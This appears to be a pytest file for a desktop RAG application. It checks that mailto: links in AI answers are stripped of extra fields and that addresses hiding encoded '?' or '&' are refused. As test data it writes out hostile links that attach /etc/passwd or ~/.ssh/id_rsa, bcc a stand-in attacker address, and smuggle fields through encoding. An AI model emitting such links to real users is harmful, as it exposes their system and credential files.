"""Attack: a `mailto:` link in an answer carries extra parameters (`?attach=/etc/passwd`, `cc=`, `bcc=`) that some
mail apps honour: after the confirmation the whole link went to the system. Only the address, subject and body
are kept; the confirmation shows exactly what is opened. An address that hides an encoded `?` or `&`
(`a@b.c%3Fattach=/etc/passwd`, issue 35) is refused: a mail app that decodes it first would read the rest as
fields."""

from __future__ import annotations

import os

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")  # before any Qt import

import pytest  # noqa: E402
from PySide6.QtCore import QUrl  # noqa: E402

from tests.support.answer_links import anchors, click_link  # noqa: E402


def test_a_mail_link_that_attaches_a_file_opens_without_it(qtbot, answer, opened) -> None:
    widget = answer("Write to [your manager](mailto:boss@example.com?attach=/etc/passwd) [1].")
    (href,) = [h for h in anchors(widget) if h.startswith("mailto:")]
    shown = click_link(qtbot, widget, href, reply="open")
    assert shown is not None and "boss@example.com" in shown
    assert "attach" not in shown and "passwd" not in shown  # the confirmation shows what is opened
    assert opened.urls == ["mailto:boss@example.com"]


def test_a_plain_mail_link_opens_unchanged(qtbot, answer, opened) -> None:
    widget = answer("Write to [the desk](mailto:desk@example.com) [1].")
    assert click_link(qtbot, widget, "mailto:desk@example.com", reply="open") is not None
    assert opened.urls == ["mailto:desk@example.com"]


def test_only_to_subject_and_body_survive(qapp) -> None:
    from desktop_rag.gui.views.safe_browser import mail_only

    url = QUrl("mailto:boss@example.com?subject=Report&attach=/etc/passwd&body=See%20attached&BCC=spy@evil.example"
               "&Attach=%2Fhome%2Fme%2F.ssh%2Fid_rsa&%61ttach=x&to=second@example.com#frag")
    kept = mail_only(url).toString(QUrl.ComponentFormattingOption.FullyEncoded)
    assert kept == "mailto:boss@example.com?subject=Report&body=See%20attached&to=second@example.com"


@pytest.mark.parametrize("href", ["mailto:a@b.c%3Fattach=/etc/passwd", "mailto:a@b.c%3fsubject=x%26attach=/etc/passwd",
                                  "mailto:a@b.c%253Fattach=/etc/passwd", "mailto:a@b.c%26attach=/etc/passwd"])
def test_a_mail_address_hiding_an_encoded_question_mark_or_ampersand_is_refused(qtbot, answer, opened,
                                                                                href: str) -> None:
    widget = answer(f"Write to [the desk]({href}) [1].")
    (shown_href,) = [h for h in anchors(widget) if h.startswith("mailto:")]
    shown = click_link(qtbot, widget, shown_href, reply="open")
    assert shown is not None and "was not opened" in shown and "encoded" in shown, "the user is told why"
    assert opened.urls == []


def test_an_ordinary_encoded_address_still_opens(qtbot, answer, opened) -> None:
    widget = answer("Write to [the desk](mailto:the%20desk@example.com) [1].")
    (href,) = [h for h in anchors(widget) if h.startswith("mailto:")]
    assert click_link(qtbot, widget, href, reply="open") is not None
    assert opened.urls == ["mailto:the desk@example.com"]  # (the fixture records the URL decoded)
